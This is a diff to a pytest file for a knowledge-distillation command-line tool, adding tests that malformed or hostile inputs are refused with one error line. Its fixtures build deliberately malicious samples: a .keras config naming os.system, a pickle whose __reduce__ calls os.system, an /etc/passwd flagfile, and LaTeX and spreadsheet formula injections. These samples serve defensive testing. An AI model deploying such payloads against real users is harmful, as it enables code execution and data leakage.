@@ -6,17 +6,19 @@ errors: one `error:` line, exit 2) and `main`.
 
 import hashlib
 import importlib.util
+import json
 import os
 import shutil
 import stat
 from pathlib import Path
 
+import numpy as np
 import pytest
 from absl import flags
 from absl.testing import flagsaver
 from conftest import StopAtEpoch
 
-from lskd_tf import experiment, sweep
+from lskd_tf import experiment, sweep, tasks
 from lskd_tf import flags as lf
 from lskd_tf.run_dir import RunDir
 
@@ -35,10 +37,10 @@ def cli(*argv) -> int:
     with flagsaver.flagsaver():
         flags.FLAGS.unparse_flags()
         try:
-            run_cli.parse_flags(["run.py", *argv])
+            rest = run_cli.parse_flags(["run.py", *argv])
         except SystemExit as exit_:
             return exit_.code
-        return run_cli.main(["run.py"])
+        return run_cli.main(rest)
 
 
 def snapshot(root: Path) -> dict[str, str]:
@@ -272,7 +274,224 @@ def test_bad_translation_input_fails_in_one_line_and_loses_nothing(study, tmp_pa
     ]  # fmt: skip
     before = snapshot(root)
     for extra, says in cases:
-        assert cli(*base, *extra) == 2, extra
+        # --train_size sizes the embedded corpus only: with another dataset it is refused
+        other_data = any(a.startswith("--dataset=") for a in extra)
+        args = [a for a in base if not (other_data and a.startswith("--train_size"))]
+        assert cli(*args, *extra) == 2, extra
         line = one_error_line(capsys)
         assert says in line, (extra, line)
     assert snapshot(root) == before
+
+
+# ----------------------------------------------------------------------------- issue #23
+
+
+@pytest.fixture(scope="module")
+def bad_files(study, tmp_path_factory):
+    """Files a user might pass by mistake (or malice), each a case of issue #23."""
+    import pickle
+    import zipfile
+
+    from safetensors.numpy import save_file
+
+    root, _ = study
+    out = tmp_path_factory.mktemp("bad_files")
+    teacher = root / "runs" / "quick" / "teacher-resnet8-ls0-seed0" / "last.keras"
+    files = {"teacher": teacher, "dir": out}
+    files["latin1_flags"] = out / "latin1.flags"
+    files["latin1_flags"].write_bytes("--epochs=1\n# caf\xe9\n".encode("latin-1"))
+    whole = out / "whole.safetensors"
+    save_file({"fc.weight": np.ones((10, 64), np.float32)}, str(whole))
+    files["truncated_st"] = out / "truncated.safetensors"
+    files["truncated_st"].write_bytes(whole.read_bytes()[:-100])
+    header_length = int.from_bytes(whole.read_bytes()[:8], "little")
+    files["header_only_st"] = out / "header_only.safetensors"
+    files["header_only_st"].write_bytes(whole.read_bytes()[: 8 + header_length])
+    files["evil_keras"] = out / "evil.keras"
+    with zipfile.ZipFile(teacher) as src, zipfile.ZipFile(files["evil_keras"], "w") as dst:
+        for name in src.namelist():
+            data = src.read(name)
+            if name == "config.json":
+                data = data.replace(b'"module": "keras.layers", "class_name": "ReLU"',
+                                    b'"module": "os", "class_name": "system"')  # fmt: skip
+                assert b'"system"' in data
+            dst.writestr(name, data)
+    files["empty_keras"] = out / "empty.keras"
+    files["empty_keras"].write_bytes(b"")
+    files["text_keras"] = out / "text.keras"
+    files["text_keras"].write_text("not a zip archive\n")
+
+    class Evil:
+        def __reduce__(self):
+            return (os.system, ("true",))
+
+    files["evil_pth"] = out / "evil.pth"
+    files["evil_pth"].write_bytes(pickle.dumps({"conv1.weight": Evil()}))
+    files["a_file"] = out / "a_file"
+    files["a_file"].write_text("x")
+    text = out / "text_data"
+    text.mkdir()
+    for split in ("train", "valid", "test"):
+        (text / f"{split}.de").write_text("ein haus\n\nein baum\n")
+        (text / f"{split}.en").write_text("a house\na car\na tree\n")
+    files["text_data"] = text
+    empty_text = out / "empty_text"
+    empty_text.mkdir()
+    for split in ("train", "valid", "test"):
+        for lang in ("de", "en"):
+            (empty_text / f"{split}.{lang}").write_text("" if split == "train" else "x\n")
+    files["empty_text"] = empty_text
+    return files
+
+
+TRANSLATION = ["--task=translation", "--teacher_models=transformer_tiny",
+               "--student_models=transformer_tiny", "--epochs=1", "--teacher_epochs=1",
+               "--verbose=0", "--analyze=false", "--export=false"]  # fmt: skip
+TINY_NO_DATA_SIZE = [a for a in TINY if not a.startswith(("--train_per_class", "--test_per_class"))]
+
+# (issue item, arguments after a fresh --output_dir, what the one error line says)
+BAD_INPUTS = [
+    ("4 non-UTF-8 flagfile", [*TINY, "--flagfile={latin1_flags}"], "latin1.flags is not UTF-8"),
+    ("4 truncated safetensors, teacher weights", [*TINY, "--teacher_pretrained={truncated_st}"],
+     "truncated.safetensors is not a complete .safetensors file"),
+    ("4 header-only safetensors, checkpoint",
+     [*TINY, "--mode=distill", "--teacher_checkpoint={header_only_st}"],
+     "header_only.safetensors is not a complete .safetensors file"),
+    ("4 .keras naming a non-Keras class, checkpoint",
+     [*TINY, "--mode=distill", "--teacher_checkpoint={evil_keras}"], "names class 'system'"),
+    ("4 .keras naming a non-Keras class, weights", [*TINY, "--pretrained={evil_keras}"],
+     "names class 'system'"),
+    ("4 export_dir is a file",
+     [*TINY, "--mode=export", "--checkpoint={teacher}", "--export_dir={a_file}"],
+     "a_file is a file"),
+    ("4 export_dir below a file",
+     [*TINY, "--mode=export", "--checkpoint={teacher}", "--export_dir={a_file}/export"],
+     "is a file, not a directory"),
+    ("4 export_dir on a read-only file system",
+     [*TINY, "--mode=export", "--checkpoint={teacher}", "--export_dir=/proc/lskd_export"],
+     "cannot write in /proc"),
+    ("5 0-byte .keras", [*TINY, "--mode=evaluate", "--checkpoint={empty_keras}"],
+     "empty.keras is empty (0 bytes)"),
+    ("5 non-zip .keras", [*TINY, "--mode=evaluate", "--checkpoint={text_keras}"],
+     "text.keras is not a .keras file (not a zip archive)"),
+    ("5 unknown model as a weights key", [*TINY, "--pretrained=nosuchmodel={a_file}"],
+     "'nosuchmodel' is not a valid key"),
+    ("5 batch larger than the dataset", [*TINY, "--batch_size=512", "--mode=teacher"],
+     "batch size 512 is larger than the dataset: embedded's train split has 200 examples"),
+    ("5 translation bad lines name a flag",
+     [*TRANSLATION, "--dataset=text", "--data_dir={text_data}", "--source_language=de",
+      "--target_language=en"], "--bad_lines=skip"),
+    ("5 a flagfile that is no flagfile", ["--flagfile=/etc/passwd"], "unexpected argument"),
+    ("6 teacher_checkpoint in a study", [*TINY, "--teacher_checkpoint=/nonexistent.keras"],
+     "--teacher_checkpoint is read only by --mode=distill"),
+    ("6 checkpoint in a study", [*TINY, "--checkpoint={teacher}"], "--checkpoint is read only"),
+    ("6 export_dir in a study", [*TINY, "--export_dir={dir}"], "--export_dir is read only"),
+    ("6 run_dirs in a study", [*TINY, "--run_dirs={dir}"], "--run_dirs is read only"),
+    ("6 translation flag on images", [*TINY, "--source_language=de"],
+     "--source_language is a translation flag"),
+    ("6 translation flag on images", [*TINY, "--max_tokens=100"],
+     "--max_tokens is a translation flag"),
+    ("6 embedded-only flag on another dataset",
+     [*TINY, "--dataset=cifar100", "--data_dir={dir}"], "sizes the embedded dataset only"),
+    ("6 teacher weights for no teacher", [*TINY, "--teacher_pretrained=0.5={a_file}"],
+     "no teacher has label smoothing 0.5"),
+    ("6 student weights for no student", [*TINY, "--pretrained=resnet20={a_file}"],
+     "no student is a resnet20"),
+    ("6 verbose", [*TINY, "--verbose=7"], "--verbose must be 0"),
+    ("7 pickle with code refused before the teacher trains", [*TINY, "--pretrained={evil_pth}"],
+     "evil.pth"),
+    ("8 text dataset from the command line",
+     [*TRANSLATION, "--dataset=text", "--data_dir={empty_text}", "--source_language=de",
+      "--target_language=en"], "train.de and"),
+    ("10 T underflows", [*TINY, "--temperatures=1e-30"], "within [0.01, 100]"),
+    ("10 T overflows", [*TINY, "--temperatures=1e30"], "within [0.01, 100]"),
+    ("11 empty translation train file",
+     [*TRANSLATION, "--dataset=text", "--data_dir={empty_text}", "--source_language=de",
+      "--target_language=en"], "is empty"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("item, args, says", BAD_INPUTS, ids=[row[0] for row in BAD_INPUTS])
+def test_bad_input_is_one_line_before_any_work(bad_files, tmp_path, capsys, item, args, says):
+    """Each case of issue #23: exit 2, one `error:` line saying what to do, nothing
+    trained first and nothing lost."""
+    args = [a.format(**bad_files) for a in args]
+    before = snapshot(bad_files["dir"])
+    code = cli(f"--output_dir={tmp_path}/runs", f"--tensorboard_dir={tmp_path}/tb", *args)
+    line = one_error_line(capsys)
+    assert code == 2, (item, line)
+    assert says in line, (item, line)
+    assert len(line) < 800, line  # one line, not a file's contents
+    assert snapshot(bad_files["dir"]) == before
+    started = [p.parent.name for p in (tmp_path / "runs").rglob("run.json")]
+    assert not started, started
+
+
+@pytest.mark.parametrize(
+    "task, dataset",
+    [(t, d) for t in ("image_classification", "translation") for d in
+     tasks.get(t).datasets() if d != "embedded"],
+)  # fmt: skip
+def test_every_dataset_name_passes_flag_validation(tmp_path, capsys, task, dataset):
+    """Through run.py: a dataset's name passes the flags; its missing files are then
+    one line saying how to get them (never a flag-validation error)."""
+    extra = ["--source_language=de", "--target_language=en"] if dataset == "text" else []
+    models = ["--teacher_models=transformer_tiny", "--student_models=transformer_tiny"] if (
+        task == "translation") else ["--teacher_models=resnet8"]  # fmt: skip
+    code = cli(f"--task={task}", f"--dataset={dataset}", f"--data_dir={tmp_path}",
+               f"--output_dir={tmp_path}/runs", *models, *extra)  # fmt: skip
+    line = one_error_line(capsys)
+    assert code == 2 and "--helpfull" not in line, line
+    assert str(tmp_path) in line or dataset.split("/")[0] in line, line
+    assert not list((tmp_path / "runs").rglob("run.json"))
+
+
+def test_stray_argument_exits_2_from_the_shell(tmp_path):
+    """Issue #25 item 9: a stray positional argument is exit status 2, as the README says
+    (absl's UsageError made it 1): needs the real process."""
+    import subprocess
+    import sys
+
+    done = subprocess.run(
+        [sys.executable, str(ROOT / "run.py"), "stray", f"--output_dir={tmp_path}"],
+        capture_output=True, text=True, timeout=300,
+        env={**os.environ, "TF_CPP_MIN_LOG_LEVEL": "3"},
+    )  # fmt: skip
+    assert done.returncode == 2, done.stderr[-1000:]
+    last = done.stderr.strip().splitlines()[-1]
+    assert last.startswith("error: 1 unexpected argument(s) 'stray'"), last
+    assert not any(tmp_path.iterdir())
+
+
+def test_run_json_strings_cannot_inject_latex_or_spreadsheet_formulas(study, tmp_path):
+    root, args = study
+    runs = tmp_path / "runs"
+    shutil.copytree(root / "runs", runs)
+    run_json = runs / "quick" / "teacher-resnet8-ls0-seed0" / "run.json"
+    info = json.loads(run_json.read_text())
+    info["model"] = r"\input{/etc/hostname}"
+    info["dataset"] = '=HYPERLINK("http://x/?"&A1,"click")'
+    run_json.write_text(json.dumps(info))
+    assert cli(f"--output_dir={runs}", "--mode=results") == 0
+    tables = runs / "quick" / "results"
+    tex = (tables / "teachers.tex").read_text()
+    assert r"\input{" not in tex and r"\textbackslash input\{/etc/hostname\}" in tex
+    csv_text = (tables / "runs.csv").read_text()
+    assert "'=HYPERLINK(" in csv_text and ",=HYPERLINK(" not in csv_text
+    for table in ("teachers.csv", "students.csv"):
+        for cell in (tables / table).read_text().replace("\n", ",").split(","):
+            assert not cell.startswith(("=", "@")), (table, cell)
+
+
+def test_a_damaged_history_csv_is_reported(study, tmp_path, capsys):
+    root, _ = study
+    runs = tmp_path / "runs"
+    shutil.copytree(root / "runs", runs)
+    history = runs / "quick" / "teacher-resnet8-ls0-seed0" / "history.csv"
+    for garbage in ("epoch,loss\nabc,def\n", "\x00\xff garbage", "epoch,loss\n1,0.5\n3,0.4\n",
+                    "loss\n0.5\n", "epoch,loss\n"):  # fmt: skip
+        history.write_text(garbage)
+        assert cli(f"--output_dir={runs}", "--mode=results") == 2
+        line = one_error_line(capsys)
+        assert f"{history} is damaged" in line and "delete the run directory" in line
+        assert history.read_text() == garbage, garbage  # never overwritten
